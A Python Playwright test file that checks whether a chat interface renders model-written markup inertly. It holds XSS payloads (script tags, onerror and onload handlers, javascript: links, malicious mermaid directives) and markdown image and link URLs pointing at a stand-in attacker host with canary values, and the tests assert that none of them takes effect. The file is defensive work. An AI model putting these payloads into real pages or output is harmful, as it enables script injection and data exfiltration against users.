"""What a model says is shown, never obeyed: no element, handler, dialog or foreign request comes of it."""

import pytest
from playwright.sync_api import expect

MARKUP = """Markup <script>alert(1)</script> <svg onload=alert(1)> <iframe srcdoc="<script>alert(1)</script>"></iframe>

<form action="https://evil.example"><input name=a></form>

<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/y) }</style>

<a href=javascript:alert(1)>raw</a> [one](javascript:alert(1)) [two](data:text/html;base64,PHNjcmlwdD4=) [three](vbscript:x) [four](//evil.example)

<img srcset="https://evil.example/1.png 1x" src=x onerror=alert(1)> ENDOFMARKUP
"""
FENCES = """Fences

```"><img src=x onerror=alert(1)>
<script>alert(1)</script>
```

$\\href{javascript:alert(1)}{x}$ ENDOFFENCES
"""
DIAGRAMS = """Diagrams

```mermaid
%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/z.css)"}}%%
flowchart LR
  A["<img src=x onerror=alert(1)>"] --> B
  click A "javascript:alert(1)"
  click B call alert(1)
```

```mermaid
flowchart LR
  A@{ img: "https://evil.example/p.png", label: "x" }
```

```mermaid
flowchart LR
  A["<img src='//evil.example/q.png' onerror='alert(1)'>"] --> B["safe"]
```

ENDOFDIAGRAMS
"""
PICTURES = """Pictures ![a](https://evil.example/?d=CANARY) ![b][r] ![c](//evil.example/c.png) <link rel=icon href=https://evil.example/f.ico>

[r]: https://evil.example/?d=CANARY2

https://evil.example/auto and [a link](https://evil.example/full?address=shown) ENDOFPICTURES
"""
ATTACKS = {"MARKUP": MARKUP, "FENCES": FENCES, "DIAGRAMS": DIAGRAMS, "PICTURES": PICTURES}
LIVE = (
    "script, iframe, form, style, object, embed, link, base, img[src^='http'], img[src^='//'], img[srcset], svg[onload]"
)


@pytest.mark.parametrize("look", [("light", "en-US"), ("dark", "ko-KR")], ids=["light-en", "dark-ko"])
@pytest.mark.parametrize("name", ATTACKS)
def test_what_a_model_says_cannot_act(visit, model, app, shop_indexed, name, look) -> None:
    model.answers[f"show {name}"] = ATTACKS[name]
    visitor = visit(color_scheme=look[0], locale=look[1])
    page = visitor.enter()
    visitor.ask(f"show {name}")
    prose = page.locator(".prose")
    expect(prose).to_contain_text(f"ENDOF{name}")
    page.wait_for_timeout(2000 if name == "DIAGRAMS" else 300)
    assert prose.locator(LIVE).count() == 0
    handlers = "elements => elements.flatMap(e => [...e.attributes].filter(a => /^on/.test(a.name) || /^\\s*(javascript|vbscript|data:text)/i.test(a.value)).map(a => a.name))"
    assert prose.locator("*").evaluate_all(handlers) == []
    assert visitor.dialogs == []
    assert visitor.foreign == []


def test_an_address_is_shown_in_full_before_it_is_opened(visit, model, app, shop_indexed) -> None:
    model.answers["show PICTURES"] = PICTURES
    visitor = visit()
    page = visitor.enter()
    visitor.ask("show PICTURES")
    page.get_by_role("link", name="a link").click()
    expect(page.get_by_role("alertdialog")).to_contain_text("https://evil.example/full?address=shown")
    page.get_by_role("button", name="Cancel").click()
    assert visitor.foreign == []


def test_diagrams_without_tricks_are_drawn(visit, model, app, shop_indexed) -> None:
    model.answers["draw it"] = "```mermaid\nflowchart LR\n  A[orders] --> B[payment]\n```\n\nDone."
    visitor = visit()
    page = visitor.enter()
    visitor.ask("draw it")
    expect(page.locator(".diagram img")).to_be_visible()
    assert page.locator(".diagram img").evaluate("image => image.naturalWidth") > 50
